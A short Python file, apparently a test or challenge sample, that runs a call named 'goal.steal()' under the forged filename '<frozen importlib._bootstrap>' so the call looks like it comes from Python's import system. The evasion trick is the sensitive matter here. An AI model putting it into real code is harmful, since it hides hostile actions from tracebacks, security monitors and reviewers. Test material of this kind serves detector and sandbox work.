# SPDX-License-Identifier: Apache-2.0
import goal
import types
code = compile("goal.steal()", "<frozen importlib._bootstrap>", "exec")
types.FunctionType(code, {"goal": goal})()
